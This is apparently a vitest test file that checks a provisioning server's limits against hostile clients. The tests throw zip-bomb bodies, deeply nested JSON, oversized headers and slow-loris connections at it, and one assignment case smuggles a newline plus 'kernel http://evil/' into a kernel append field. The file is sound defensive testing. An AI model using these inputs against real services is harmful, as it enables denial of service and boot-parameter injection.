// Every limit a hostile client meets, tested at its boundary: the body size of every JSON route (413
// BODY_TOO_LARGE one byte over), the facts' counts, lengths and depth (src/schemas/facts.ts LIMITS),
// the other documented caps (install callbacks, assignments), header size (431), and the server
// timeouts that cut a slow client off (shortened here; test/faults/fuzz-long.test.ts checks the real
// ones). docs/api.md "Limits" is the promise these hold.
import net from 'node:net';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LIMITS } from '../../src/schemas/facts.js';
import { MAX_INSTALL_EVENT_BODY, MAX_INSTALL_LOG } from '../../src/schemas/install-events.js';
import { MAX_TEMPLATE_BYTES } from '../../src/templates/version.js';
import { SERVER_TIMEOUTS } from '../../src/server.js';
import { SECURITY_HEADERS } from '../../src/http/security-headers.js';
import { randomMac, sampleFacts } from '../support/facts.js';
import { startHostileServer } from '../support/hostile-server.js';
import type { TestServer } from '../support/server.js';
import { rawRequest, type RawResponse } from '../support/raw-http.js';
import { appRoutes, fillPath } from '../support/routes.js';

let srv: TestServer;
beforeAll(async () => {
  srv = await startHostileServer({ env: { KICKSTAND_REGISTER_LIMIT: '0' } });
});
afterAll(async () => srv?.stop());

const KiB = 1024;
const admin = () => ({ authorization: `Bearer ${srv.adminToken}`, 'content-type': 'application/json' });
const post = (path: string, body: unknown, headers: Record<string, string> = admin()) =>
  rawRequest(srv.url, {
    method: 'POST',
    path,
    headers: { 'content-type': 'application/json', ...headers },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  });
const errorOf = (res: RawResponse) => (JSON.parse(res.text) as { error: { code: string; field?: string; message: string } }).error;
const register = (facts: unknown) => post('/api/v1/discovery', facts, {});

/** Body limit of every JSON route. A JSON route missing here fails the test: give it a limit. */
const BODY_LIMITS: Record<string, number> = {
  'POST /api/v1/discovery': LIMITS.bodyBytes,
  'POST /api/v1/discovery/:id/events': MAX_INSTALL_EVENT_BODY,
  'POST /api/v1/rules': 64 * KiB,
  'POST /api/v1/rules/preview': 64 * KiB,
  'PUT /api/v1/rules/:name': 64 * KiB,
  'PATCH /api/v1/settings': 64 * KiB,
  'POST /api/v1/hosts/:id/assignment': 64 * KiB,
  'PUT /api/v1/hosts/:id/boot-key': 64 * KiB,
  'POST /api/v1/hosts/power': 128 * KiB,
  'POST /api/v1/hosts/:id/power': 16 * KiB,
  'POST /api/v1/hosts/:id/boot-device': 16 * KiB,
  'PUT /api/v1/hosts/:id/bmc': 16 * KiB,
  'POST /api/v1/hosts/:id/expected': 4 * KiB,
  'PUT /api/v1/bmc-credentials/:name': 16 * KiB,
  'POST /api/v1/hosts/tags': 128 * KiB,
  'PUT /api/v1/hosts/:id/tags': 16 * KiB,
  'PATCH /api/v1/hosts/:id/tags': 16 * KiB,
  'PUT /api/v1/tags/:name': 16 * KiB,
  'POST /api/v1/profiles': 64 * KiB,
  'PUT /api/v1/profiles/:name': 64 * KiB,
  'POST /api/v1/users': 16 * KiB,
  'POST /api/v1/users/:name/password': 16 * KiB,
  'POST /api/v1/users/:name/tokens': 16 * KiB,
  'PATCH /api/v1/users/:name': 16 * KiB,
  'POST /api/v1/me/tokens': 16 * KiB,
  'POST /api/v1/installers': 16 * KiB,
  'PUT /api/v1/installers/:name': 16 * KiB,
  'POST /api/v1/webhooks': 16 * KiB,
  'PUT /api/v1/webhooks/:name': 16 * KiB,
  'POST /api/v1/templates/*name/rollback': 512 * KiB,
  'POST /api/v1/templates/*name/preview': 512 * KiB,
  'PUT /api/v1/templates/*name': 512 * KiB,
};

/** A JSON document of exactly `bytes` bytes. */
const jsonOfSize = (bytes: number) => `{"pad":"${'a'.repeat(bytes - '{"pad":""}'.length)}"}`;

describe('body size', () => {
  it('When any JSON route gets a body one byte over its limit, then 413 BODY_TOO_LARGE naming body; at the limit, it is read', async () => {
    const routes = appRoutes(srv.running.app).filter((r) => r.json);
    expect(routes.map((r) => r.key).sort()).toEqual(Object.keys(BODY_LIMITS).sort());
    for (const route of routes) {
      const limit = BODY_LIMITS[route.key]!;
      const url = fillPath(route, { id: 'x1', name: route.path.includes('templates') ? 'x1.njk' : 'x1' });
      const send = (body: string) => rawRequest(srv.url, { method: route.method, path: url, headers: admin(), body });
      const over = await send(jsonOfSize(limit + 1));
      expect(over.status, route.key).toBe(413);
      expect(errorOf(over), route.key).toMatchObject({ code: 'BODY_TOO_LARGE', field: 'body' });
      expect(errorOf(over).message, route.key).toContain(String(limit));
      const at = await send(jsonOfSize(limit));
      expect(at.status, route.key).not.toBe(413);
      expect(at.status, route.key).toBeLessThan(500);
    }
  });

  it('When a body announces more than the limit, then 413 at once, before it is sent; when it arrives chunked past the limit, then 413', async () => {
    const port = Number(new URL(srv.url).port);
    const head = 'POST /api/v1/discovery HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n';
    expect(await statusLine(port, (s) => s.write(`${head}Content-Length: ${1024 * 1024 * 1024}\r\n\r\n{`))).toMatch(/^HTTP\/1\.1 413 /);
    const chunk = 'a'.repeat(64 * KiB);
    const chunked = (s: net.Socket) => {
      s.write(`${head}Transfer-Encoding: chunked\r\n\r\n`);
      for (let i = 0; i < 5; i++) s.write(`${chunk.length.toString(16)}\r\n${chunk}\r\n`);
      s.write('0\r\n\r\n');
    };
    expect(await statusLine(port, chunked)).toMatch(/^HTTP\/1\.1 413 /);
  });
});

/** Connect, let `send` write, and resolve with the response head once it has come. */
function statusLine(port: number, send: (socket: net.Socket) => void): Promise<string> {
  return new Promise((resolve) => {
    const socket = net.connect(port, '127.0.0.1', () => send(socket));
    let answer = '';
    socket.on('data', (d: Buffer) => {
      answer += d.toString();
      if (answer.includes('\r\n\r\n')) socket.destroy();
    });
    socket.on('error', () => undefined);
    socket.on('close', () => resolve(answer));
  });
}

describe('compressed bodies', () => {
  it('When a body says gzip, deflate or br but does not decompress, then 400 BAD_JSON naming body', async () => {
    for (const encoding of ['gzip', 'deflate', 'br']) {
      const res = await rawRequest(srv.url, {
        method: 'POST',
        path: '/api/v1/discovery',
        headers: { 'content-type': 'application/json', 'content-encoding': encoding },
        body: 'not compressed at all',
      });
      expect(res.status, encoding).toBe(400);
      expect(errorOf(res), encoding).toMatchObject({ code: 'BAD_JSON', field: 'body' });
    }
  });

  it('When a small gzip body inflates past the limit (a zip bomb), then 413 and the service reads no further', async () => {
    const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024, 0x20));
    expect(bomb.length).toBeLessThan(LIMITS.bodyBytes);
    const res = await rawRequest(srv.url, {
      method: 'POST',
      path: '/api/v1/discovery',
      headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
      body: bomb,
    });
    expect(res.status).toBe(413);
    expect(errorOf(res).code).toBe('BODY_TOO_LARGE');
    const ok = await rawRequest(srv.url, {
      method: 'POST',
      path: '/api/v1/discovery',
      headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
      body: gzipSync(JSON.stringify(sampleFacts())),
    });
    expect(ok.status).toBe(201);
  });
});

describe('facts', () => {
  const nic = (i: number, mac = randomMac()) => ({ name: `eno${i}`, mac, ipv4: [], ipv6: [] });
  const disk = (i: number) => ({ name: `sd${i}`, size_bytes: 1e12 });
  const nics = (n: number) => {
    const list = Array.from({ length: n }, (_, i) => nic(i));
    return { boot_mac: list[0]!.mac, nics: list };
  };
  const cases: [string, number, (n: number) => Record<string, unknown>, string][] = [
    ['NICs', LIMITS.nics, (n) => nics(n), 'nics'],
    ['disks', LIMITS.disks, (n) => ({ disks: Array.from({ length: n }, (_, i) => disk(i)) }), 'disks'],
    [
      'addresses per NIC',
      LIMITS.addresses,
      (n) => {
        const f = nics(1);
        f.nics[0]!.ipv4 = Array.from({ length: n }, (_, i) => `10.0.${i >> 8}.${i & 255}/24`) as never;
        return f;
      },
      'nics[0].ipv4',
    ],
    ['CPU flags', LIMITS.cpuFlags, (n) => ({ cpu: { flags: Array.from({ length: n }, (_, i) => `f${i}`) } }), 'cpu.flags'],
    ['extra keys', LIMITS.extraKeys, (n) => ({ extra: Object.fromEntries(Array.from({ length: n }, (_, i) => [`k${i}`, i])) }), 'extra'],
    [
      'characters of a fact string (code points, not bytes)',
      LIMITS.shortString,
      (n) => ({ dmi: { vendor: '\u{1F4A3}'.repeat(n) } }),
      'dmi.vendor',
    ],
    ['characters of kernel.cmdline', LIMITS.longString, (n) => ({ kernel: { cmdline: 'x'.repeat(n) } }), 'kernel.cmdline'],
    ['characters of an extra value', LIMITS.longString, (n) => ({ extra: { site: 'x'.repeat(n) } }), 'extra.site'],
    ['characters of a CPU flag', 64, (n) => ({ cpu: { flags: ['f'.repeat(n)] } }), 'cpu.flags[0]'],
    [
      'characters of a NIC name',
      64,
      (n) => {
        const f = nics(1);
        f.nics[0]!.name = 'e'.repeat(n);
        return f;
      },
      'nics[0].name',
    ],
    ['characters of a disk name', 64, (n) => ({ disks: [{ name: 'd'.repeat(n) }] }), 'disks[0].name'],
  ];

  it.each(cases)(
    'When facts hold as many %s as allowed (%i), then 201; one more, then 400 naming the field',
    async (_what, limit, make, field) => {
      const at = await register(sampleFacts(make(limit)));
      expect(at.status, at.text).toBe(201);
      const over = await register(sampleFacts(make(limit + 1)));
      expect(over.status).toBe(400);
      expect(errorOf(over)).toMatchObject({ code: 'VALIDATION', field });
    },
  );

  it('When a fact nests deeper than the schema (an object where a scalar goes, 40 000 levels anywhere), then 400 naming where, at once', async () => {
    const deep = (n: number) => `${'['.repeat(n)}${']'.repeat(n)}`;
    const cases: [string, string][] = [
      [JSON.stringify(sampleFacts({ extra: { site: { nested: 'x' } } })), 'extra.site'],
      [JSON.stringify(sampleFacts({ dmi: { vendor: { a: { b: 'c' } } } })), 'dmi.vendor'],
      [JSON.stringify(sampleFacts()).replace(/}$/, `,"junk":${deep(40_000)}}`), 'junk'],
      [JSON.stringify(sampleFacts()).replace(/"arch":"x86_64"/, `"arch":${deep(40_000)}`), 'arch'],
    ];
    for (const [body, field] of cases) {
      const started = Date.now();
      const res = await register(body);
      expect(res.status, field).toBe(400);
      expect(errorOf(res), field).toMatchObject({ code: 'VALIDATION', field });
      expect(Date.now() - started, field).toBeLessThan(2000);
    }
    const whole = await register(deep(60_000));
    expect(whole.status).toBe(400);
    expect(errorOf(whole).code).toBe('VALIDATION');
  });
});

describe('other documented caps', () => {
  const live = async () => {
    const reg = JSON.parse((await register(sampleFacts())).text) as { id: string; token: string };
    await post(`/api/v1/hosts/${reg.id}/assignment`, { action: 'reboot' });
    await rawRequest(srv.url, {
      method: 'GET',
      path: `/api/v1/discovery/${reg.id}/next`,
      headers: { authorization: `Bearer ${reg.token}` },
    });
    return { ...reg, event: (body: unknown) => post(`/api/v1/discovery/${reg.id}/events`, body, { authorization: `Bearer ${reg.token}` }) };
  };

  it('When an install callback message or event_id is one over its cap, then 400 naming it; at the cap, recorded', async () => {
    const host = await live();
    expect((await host.event({ stage: 'installing', message: 'm'.repeat(1001) })).status).toBe(400);
    expect(errorOf(await host.event({ stage: 'installing', event_id: 'e'.repeat(65) }))).toMatchObject({
      code: 'VALIDATION',
      field: 'event_id',
    });
    expect(errorOf(await host.event({ stage: 'installing', message: 'm'.repeat(1001) })).field).toBe('message');
    const ok = await host.event({ stage: 'installing', message: 'm'.repeat(1000), event_id: 'e'.repeat(64) });
    expect(ok.status, ok.text).toBe(200);
  });

  it('When a failed install sends a log longer than 64 KiB, then its last 64 KiB are kept, not a 4xx', async () => {
    const host = await live();
    const log = `${'head '.repeat(20_000)}${'x'.repeat(MAX_INSTALL_LOG - 4)}TAIL`;
    const res = await host.event({ stage: 'failed', log });
    expect(res.status, res.text).toBe(200);
    expect(JSON.parse(res.text)).toMatchObject({ state: 'failed', log_truncated: true });
    const kept = await rawRequest(srv.url, { method: 'GET', path: `/api/v1/hosts/${host.id}/install-log`, headers: admin() });
    expect(Buffer.byteLength(kept.text)).toBe(MAX_INSTALL_LOG);
    expect(kept.text.endsWith('TAIL')).toBe(true);
  });

  it('When an assignment carries 200 params, a 4096-character append or a 253-character hostname, then accepted; one more, or a newline in append, then 400 naming the field', async () => {
    const assign = async (body: Record<string, unknown>) => {
      const reg = JSON.parse((await register(sampleFacts())).text) as { id: string };
      return post(`/api/v1/hosts/${reg.id}/assignment`, body);
    };
    const params = (n: number) => ({
      repo: 'http://mirror.example.com/os',
      version: '9',
      ...Object.fromEntries(Array.from({ length: n - 2 }, (_, i) => [`p${i}`, i])),
    });
    const kickstart = { action: 'kickstart', template: 'rhel.ks.njk' };
    const kexec = { action: 'kexec', kernel: 'http://m.example.com/vmlinuz', initrd: 'http://m.example.com/initrd.img' };
    const label = (n: number) => 'a'.repeat(n);
    const hostname = (n: number) => [label(63), label(63), label(63), label(n - 3 * 64)].join('.');
    const cases: [Record<string, unknown>, Record<string, unknown>, string][] = [
      [{ ...kickstart, params: params(200) }, { ...kickstart, params: params(201) }, 'params'],
      [{ ...kexec, append: 'a'.repeat(4096) }, { ...kexec, append: 'a'.repeat(4097) }, 'append'],
      [{ ...kexec, append: 'ip=dhcp' }, { ...kexec, append: 'ip=dhcp\nkernel http://evil/' }, 'append'],
      [{ action: 'reboot', hostname: hostname(253) }, { action: 'reboot', hostname: hostname(254) }, 'hostname'],
    ];
    for (const [ok, over, field] of cases) {
      const accepted = await assign(ok);
      expect(accepted.status, accepted.text).toBe(200);
      const refused = await assign(over);
      expect(refused.status, field).toBe(400);
      expect(errorOf(refused)).toMatchObject({ code: 'VALIDATION', field });
    }
  });

  it('When a template save is over 256 KiB of text (inside a body under 512 KiB), then 400 naming content', async () => {
    const res = await rawRequest(srv.url, {
      method: 'PUT',
      path: '/api/v1/templates/big.njk',
      headers: admin(),
      body: JSON.stringify({ content: 'x'.repeat(MAX_TEMPLATE_BYTES + 1) }),
    });
    expect(res.status).toBe(400);
    expect(errorOf(res)).toMatchObject({ code: 'VALIDATION', field: 'content' });
  });

  it('When a bearer token is longer than 512 characters, then 401 like any wrong token, never a lookup of megabytes', async () => {
    const res = await rawRequest(srv.url, {
      method: 'GET',
      path: '/api/v1/hosts',
      headers: { authorization: `Bearer ${'x'.repeat(513)}` },
    });
    expect(res.status).toBe(401);
    expect(errorOf(res).code).toBe('UNAUTHORIZED');
  });
});

describe('request headers', () => {
  it("When the headers are over 16 KiB (Node's --max-http-header-size), then 431; at 15 KiB, answered", async () => {
    const port = Number(new URL(srv.url).port);
    const send = (request: string) => statusLine(port, (s) => s.end(request));
    const withPad = (n: number) => `GET /ks HTTP/1.1\r\nHost: x\r\nConnection: close\r\nX-Pad: ${'a'.repeat(n)}\r\n\r\n`;
    expect(await send(withPad(15 * KiB))).toMatch(/^HTTP\/1\.1 200 /);
    expect(await send(withPad(17 * KiB))).toMatch(/^HTTP\/1\.1 431 /);
    // Many small headers add up the same way.
    const many = `GET /ks HTTP/1.1\r\nHost: x\r\n${Array.from({ length: 2000 }, (_, i) => `X-H${i}: ${'v'.repeat(8)}\r\n`).join('')}\r\n`;
    expect(await send(many)).toMatch(/^HTTP\/1\.1 431 /);
  });
});

describe('slow clients', () => {
  // Shortened so the test takes seconds; SERVER_TIMEOUTS are the production values.
  const T = { headersMs: 600, requestMs: 1500, keepAliveMs: 400, checkEveryMs: 100 };
  let slow: TestServer;
  let port: number;
  beforeAll(async () => {
    slow = await startHostileServer({ timeouts: T });
    port = Number(new URL(slow.url).port);
  });
  afterAll(async () => slow?.stop());

  /** Drip `text` one byte every `everyMs`; resolve with the answer and how long the socket lived. */
  const drip = (text: string, everyMs: number) =>
    new Promise<{ answer: string; ms: number }>((resolve) => {
      const started = Date.now();
      const socket = net.connect(port, '127.0.0.1');
      let answer = '';
      let sent = 0;
      const timer = setInterval(() => {
        if (sent < text.length && socket.writable) socket.write(text[sent++]!);
      }, everyMs);
      socket.on('data', (d: Buffer) => (answer += d.toString()));
      socket.on('error', () => undefined);
      socket.on('close', () => {
        clearInterval(timer);
        resolve({ answer, ms: Date.now() - started });
      });
    });

  it('When the production timeouts are read, then they are the documented ones: headers 10 s, request 30 s, checked every second', () => {
    expect(SERVER_TIMEOUTS).toEqual({ headersMs: 10_000, requestMs: 30_000, keepAliveMs: 5_000, checkEveryMs: 1_000 });
  });

  it('When clients send their headers byte by byte (slow loris), then each is cut off with 408 at the headers timeout while others are served', async () => {
    const lorises = Array.from({ length: 20 }, () => drip(`GET /ks HTTP/1.1\r\nHost: x\r\nX-Slow: ${'a'.repeat(200)}`, 50));
    await new Promise((r) => setTimeout(r, 200));
    const meanwhile = await rawRequest(slow.url, { method: 'GET', path: '/ks' });
    expect(meanwhile.status).toBe(200);
    for (const { answer, ms } of await Promise.all(lorises)) {
      expect(answer).toMatch(/^HTTP\/1\.1 408 /);
      // Node's own 408 carries the security headers too (answerClientError).
      for (const [name, value] of Object.entries(SECURITY_HEADERS)) expect(answer).toContain(`${name}: ${value}\r\n`);
      expect(ms).toBeGreaterThanOrEqual(T.headersMs - 50);
      expect(ms).toBeLessThan(T.headersMs + T.checkEveryMs + 1000);
    }
  });

  it('When a client sends its body byte by byte, then the request timeout cuts it off', async () => {
    const head = `POST /api/v1/discovery HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n`;
    const socket = net.connect(port, '127.0.0.1');
    const started = Date.now();
    socket.write(head);
    const timer = setInterval(() => socket.writable && socket.write('{'), 50);
    let answer = '';
    socket.on('data', (d: Buffer) => (answer += d.toString()));
    socket.on('error', () => undefined);
    const ms = await new Promise<number>((resolve) => socket.on('close', () => resolve(Date.now() - started)));
    clearInterval(timer);
    expect(answer).toMatch(/^HTTP\/1\.1 408 /);
    expect(ms).toBeGreaterThanOrEqual(T.requestMs - 50);
    expect(ms).toBeLessThan(T.requestMs + T.checkEveryMs + 1000);
  });

  it('When a kept-alive connection stays idle, then the server closes it after the keep-alive timeout', async () => {
    const socket = net.connect(port, '127.0.0.1', () => socket.write('GET /ks HTTP/1.1\r\nHost: x\r\n\r\n'));
    let answered = 0;
    socket.on('data', () => (answered ||= Date.now()));
    const closed = await new Promise<number>((resolve) => socket.on('close', () => resolve(Date.now())));
    expect(answered).toBeGreaterThan(0);
    expect(closed - answered).toBeGreaterThanOrEqual(T.keepAliveMs - 50);
    // Node keeps the socket a second longer than keepAliveTimeout (its keepAliveTimeoutBuffer).
    expect(closed - answered).toBeLessThan(T.keepAliveMs + 2000);
  });
});
